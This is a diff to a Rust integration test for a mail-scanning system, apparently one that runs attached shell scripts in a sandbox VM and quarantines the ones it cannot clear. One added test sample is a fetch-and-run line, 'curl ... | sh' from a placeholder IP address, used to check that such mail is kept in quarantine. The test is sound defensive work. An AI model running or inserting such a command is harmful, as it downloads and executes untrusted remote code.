@@ -135,7 +135,7 @@ fn a_mail_waits_for_the_vm_and_the_verdict_decides() {
     assert_eq!(entry["queue"], "virus");
 
     // What is harmless is released, and a kill while it waits loses nothing.
-    let good = send(&up, &password, "good", "#!/bin/sh\nsleep 1\necho hello\n");
+    let good = send(&up, &password, "good", "#!/bin/sh\nsleep 18\nsleep 19\necho hello\n");
     wait_for("the mail to wait", || waiting(site, &good));
     up.kill();
     let _up = site.up();
@@ -152,6 +152,18 @@ fn a_mail_waits_for_the_vm_and_the_verdict_decides() {
     assert_in_order(&trace, &["waits for the lab's verdict", "goes on: lab: ", "delivery    to <ann@localhost>: "]);
     let status = site.weir(&["feeds", "status"]).ok();
     assert!(status.contains("Waiting for the lab's verdict: 0 messages"), "{status}");
+
+    // What nobody can call clean is kept, and the trace says why.
+    for (subject, script, why) in [
+        ("pipe", "#!/bin/sh\ncurl -fsSL http://203.0.113.66/a.sh | sh\nexit 0\n", "runs-fetched"),
+        ("tool", "#!/bin/sh\nno-such-tool --now\nexit 0\n", "no-such-tool was not there"),
+    ] {
+        let kept = send(&_up, &password, subject, script);
+        let entry = at_last("the mail in quarantine", || quarantined(site, &kept));
+        assert_eq!(entry["queue"], "ext", "{entry}");
+        let trace = site.weir(&["trace", &kept]).ok();
+        assert!(trace.contains("kept in quarantine/ext: lab: ") && trace.contains(why), "{why}: {trace}");
+    }
 }
 
 /// A lab of one machine takes no samples until it is told to; its name.
@@ -163,7 +175,9 @@ fn drain(site: &Site) -> String {
 
 #[test]
 fn with_the_lab_stopped_mail_waits_and_the_deadline_decides() {
-    let site = Site::new("[scan]\nenabled = true\n[scan.lab]\nwait = \"5m\"\n[lab]\nenabled = true\nslots = 1\n");
+    let site = Site::new(
+        "[scan]\nenabled = true\n[scan.lab]\nwait = \"5m\"\non_unknown = \"pass\"\n[lab]\nenabled = true\nslots = 1\n",
+    );
     let up = site.up();
     let password = up.password();
     let machine = drain(&site);
